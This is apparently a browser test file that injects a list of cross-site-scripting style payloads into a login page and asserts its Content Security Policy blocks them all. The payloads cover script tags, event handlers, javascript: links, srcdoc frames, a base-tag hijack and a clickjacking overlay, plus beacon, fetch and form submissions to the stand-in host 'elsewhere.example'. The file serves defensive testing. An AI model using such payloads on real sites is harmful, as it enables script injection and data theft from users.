// An attack on the headers in Chromium: injected markup. The table of headers is in tests/unit/server/headers.test.ts.
import { expect, test } from 'vitest';
import { untilHydrated, useBrowserPortal } from '../support/browser-portal';

declare global {
  interface Window {
    /** Set by injected scripts. */
    hit?: string;
  }
}

const portal = useBrowserPortal();
const elsewhere = 'https://elsewhere.example';

const markups = [
  "<script>window.hit = 'script'</script>",
  `<img src="data:," onerror="window.hit = 'error'">`,
  `<svg onload="window.hit = 'load'"></svg>`,
  `<button class="bait" onclick="window.hit = 'click'">Bait</button>`,
  `<a class="bait" href="javascript:window.hit = 'link'">Bait</a>`,
  `<iframe src="javascript:parent.hit = 'frame'"></iframe>`,
  `<iframe srcdoc="<script>parent.hit = 'srcdoc'</script>"></iframe>`,
  `<script src="${elsewhere}/a.js"></script>`,
  `<link rel="stylesheet" href="${elsewhere}/a.css">`,
  `<object data="${elsewhere}/a.html"></object>`,
  `<embed src="${elsewhere}/a.html">`,
  '<style>html { visibility: hidden }</style>',
  '<div id="bait" style="position: fixed; inset: 0; z-index: 99">Bait</div>',
  `<base href="${elsewhere}/">`,
  ...['', elsewhere].flatMap((origin) => [
    `<form method="GET" action="${origin}/take"><input name="msisdn" value="1"></form>`,
    `<form method="POST" action="${origin}/subscribe/user" enctype="text/plain"></form>`,
  ]),
];

/** Runs in the page: submits each injected form, and tries to run texts and to send data to another origin. */
async function attack(origin: string): Promise<string[]> {
  for (const form of document.querySelectorAll<HTMLFormElement>('form[action]')) form.submit();
  navigator.sendBeacon(`${origin}/beacon`, 'number');
  (setTimeout as (text: string) => number)("window.hit = 'timer'");
  const evaluated = new Promise<string>((resolve) => {
    // Run in a task of the page: code that DevTools evaluates has more rights.
    setTimeout(() => {
      try {
        (Reflect.get(window, 'eval') as (text: string) => unknown)("window.hit = 'eval'");
        resolve('evaluated');
      } catch (error) {
        resolve((error as Error).name);
      }
    });
  });
  const sent = fetch(`${origin}/fetch`, { mode: 'no-cors' }).then(
    () => 'sent',
    () => 'refused',
  );
  return Promise.all([evaluated, sent]);
}

test('injected markup runs no script, applies no style, and sends nothing', async () => {
  const page = await portal.open('/home/check');
  const foreignRequests: string[] = [];
  await page.context().route(`${elsewhere}/**`, async (route) => {
    foreignRequests.push(route.request().url());
    await route.fulfill({ contentType: 'text/javascript', body: "window.hit = 'elsewhere'" });
  });
  await page.route('**/home/login', async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    await route.fulfill({
      response,
      body: html.replace('</body>', () => `${markups.join('')}</body>`),
    });
  });
  await page.goto('/home/login');
  await untilHydrated(page);
  for (const bait of await page.locator('.bait').all()) await bait.dispatchEvent('click');
  expect(await page.evaluate(attack, elsewhere)).toEqual(['EvalError', 'refused']);
  const lines: string[] = [];
  await expect
    .poll(() => {
      lines.push(...portal.takeConsole());
      return lines.filter((line) => line.includes('Content Security Policy')).length;
    })
    .toBeGreaterThanOrEqual(markups.length);
  expect(
    await page.evaluate(() => ({
      hit: window.hit,
      base: document.baseURI,
      visibility: getComputedStyle(document.documentElement).visibility,
      position: getComputedStyle(document.querySelector('#bait')!).position,
    })),
  ).toEqual({
    base: `${portal.origin}/home/login`,
    visibility: 'visible',
    position: 'static',
  });
  expect(foreignRequests).toEqual([]);
  // The login form requests the catalogue for its pictures.
  expect(portal.fixtures.calls.filter(({ path }) => path !== '/api/games')).toEqual([]);
  // The browser reports some refusals twice.
  await portal.closeNoisyPage();
});
